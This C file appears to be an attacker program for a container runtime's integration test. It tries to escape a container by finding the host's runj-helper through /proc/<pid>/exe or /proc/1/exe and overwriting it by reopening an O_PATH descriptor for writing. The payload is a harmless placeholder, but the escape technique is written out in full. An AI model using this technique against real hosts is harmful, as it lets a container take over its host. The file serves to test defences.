/* Attacker for test/integration/escape.test.ts (runs inside a container):
 * tries to overwrite the host's runj-helper through /proc/<pid>/exe of a
 * helper process (an O_PATH fd, reopened for writing through
 * /proc/self/fd/N once no process executes the file any more).
 *   overwrite watch <seconds>  any process whose exe is a runj-helper
 *   overwrite pid1 <seconds>   pid 1 (the init helper parked on exec.fifo)
 * Prints one line per event on stdout and "result: ..." last. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* An O_PATH fd on the exe of a process running a runj-helper, or -1. */
static int grab_helper(int *denied)
{
	DIR *d = opendir("/proc");
	if (!d)
		return -1;
	struct dirent *e;
	int fd = -1;
	while (fd < 0 && (e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		char path[64], target[4096];
		snprintf(path, sizeof path, "/proc/%d/exe", pid);
		ssize_t n = readlink(path, target, sizeof target - 1);
		if (n < 0) {
			if (errno == EACCES || errno == EPERM)
				(*denied)++;
			continue;
		}
		target[n] = 0;
		if (!strstr(target, "runj-helper"))
			continue;
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0)
			printf("grabbed pid %d exe %s\n", pid, target);
	}
	closedir(d);
	return fd;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc != 3)
		return 2;
	double deadline = now() + atof(argv[2]);
	int fd = -1, denied = 0;
	if (strcmp(argv[1], "pid1") == 0) {
		fd = open("/proc/1/exe", O_PATH | O_CLOEXEC);
		if (fd < 0) {
			printf("result: open /proc/1/exe: %s\n", strerror(errno));
			return 0;
		}
		char target[4096];
		ssize_t n = readlink("/proc/self/fd/3", target, sizeof target - 1);
		target[n < 0 ? 0 : n] = 0;
		printf("grabbed pid 1 exe %s\n", target);
	} else {
		printf("watching\n");
		while (fd < 0 && now() < deadline)
			fd = grab_helper(&denied);
		if (fd < 0) {
			printf("result: no helper exe reached (%d denied)\n", denied);
			return 0;
		}
	}
	char self[64];
	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
	while (now() < deadline) {
		int w = open(self, O_WRONLY | O_CLOEXEC);
		if (w < 0 && errno == ETXTBSY) {
			usleep(2000);
			continue;
		}
		if (w < 0) {
			printf("result: reopen for writing: %s\n", strerror(errno));
			return 0;
		}
		/* A real attacker's script; this one is harmless if run on the host. */
		static const char payload[] = "#!/bin/false\n";
		ssize_t n = pwrite(w, payload, sizeof payload - 1, 0);
		printf("result: %s\n", n == (ssize_t)sizeof payload - 1 ? "overwritten" : strerror(errno));
		return 0;
	}
	printf("result: still busy at the deadline\n");
	return 0;
}
